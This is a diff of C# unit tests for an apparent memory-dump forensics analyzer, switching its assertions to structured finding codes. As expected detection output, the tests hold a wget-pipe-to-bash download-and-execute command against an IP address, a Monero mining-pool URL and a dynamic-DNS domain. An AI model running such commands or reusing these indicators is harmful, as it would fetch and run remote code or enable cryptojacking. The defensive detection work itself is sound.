@@ -16,13 +16,13 @@ public sealed class SyntheticDumpTests
         result.Process.ShouldBe(new ProcessInfo(SyntheticDumps.CoreName, SyntheticDumps.CorePid, 1, 1000, SyntheticDumps.CoreName + " -q", SyntheticDumps.CoreBinary));
         result.MappedFiles.Count.ShouldBe(2);
         result.MappedFiles[0].ShouldBe(new MappedFile(0x400000, 0x401000, 0, SyntheticDumps.CoreBinary));
-        result.Findings.ShouldContain(f => f.Severity == FindingSeverity.Critical && f.Detail.Contains("ppid 1"));
-        result.Findings.ShouldContain(f => f.Title == "Binary runs from an unusual location" && f.Detail == SyntheticDumps.CoreBinary);
+        result.Findings.ShouldContain(f => f.Code == "memory.process.kernel-thread-name" && f.Severity == FindingSeverity.Critical && f.Value("ppid") == "1");
+        result.Findings.ShouldContain(f => f.Code == "memory.process.unusual-location" && f.Value("path") == SyntheticDumps.CoreBinary);
         result.Indicators.ShouldContain(i => i.Type == IndicatorType.Command && i.Value.StartsWith("wget -q -O- http://45.9.148.99/k.sh | bash"));
         result.Indicators.ShouldContain(i => i.Type == IndicatorType.Ip && i.Value == "45.9.148.99");
         var stratum = result.Indicators.First(i => i.Type == IndicatorType.Url && i.Value == "stratum+tcp://xmr.c3pool.com:13333");
         stratum.Context.ShouldNotBeNull().ShouldContain("(va 0x400065)"); // load data at 0x400000, string at +101
-        result.Findings.ShouldContain(f => f.Title == "Mining pool domain(s)" && f.Detail.Contains("xmr.c3pool.com"));
+        result.Findings.ShouldContain(f => f.Code == "memory.strings.mining-pool" && f.Argument("domains")!.Values.Contains("xmr.c3pool.com"));
     }
 
     [Fact]
@@ -37,8 +37,11 @@ public sealed class SyntheticDumpTests
         result.Threads.ShouldBe([new ThreadInfo(5120, 0x0000_00a0_0000_0000, 0x4000), new ThreadInfo(5124, 0x0000_00a0_0010_0000, 0x4000)]);
         result.Process.ShouldNotBeNull().Pid.ShouldBe(SyntheticDumps.MinidumpPid);
         result.Process!.Name.ShouldBe("svchost.exe");
-        result.Findings.ShouldContain(f => f.Title == "Module loaded from a user-writable directory" && f.Detail.StartsWith(SyntheticDumps.MainModule));
-        result.Findings.ShouldContain(f => f.Title == "Dump context" && f.Detail.StartsWith("Minidump of a Windows 10.0.19045 x64 system, written 2023-11-14 22:13:20Z, process started 2023-11-14 22:15:00Z"));
+        result.Findings.ShouldContain(f => f.Code == "memory.module.writable-directory" && f.Value("path") == SyntheticDumps.MainModule);
+        var context = result.Findings.Single(f => f.Code == "memory.dump.context");
+        context.Value("system").ShouldBe("Windows 10.0.19045 x64");
+        context.Value("written").ShouldBe("1700000000000000000");
+        context.Value("started").ShouldBe("1700000100000000000");
         result.Indicators.ShouldContain(i => i.Type == IndicatorType.Domain && i.Value == "sjb555.3322.org" && i.Context!.StartsWith("utf16le"));
         result.Warnings.ShouldBeEmpty();
     }
@@ -53,7 +56,7 @@ public sealed class SyntheticDumpTests
         result.Kind.ShouldBe("minidump");
         result.Threads.Count.ShouldBe(2);
         result.Modules.Count.ShouldBe(1);
-        result.Warnings.ShouldContain(w => w.Contains("module list is truncated"));
+        result.Warnings.ShouldContain(w => w.Code == "memory.minidump.modules-truncated" && w.Arguments[0].Value == "1");
     }
 
     internal static async Task<MemoryAnalysisResult> AnalyzeAsync(byte[] data, string name) =>
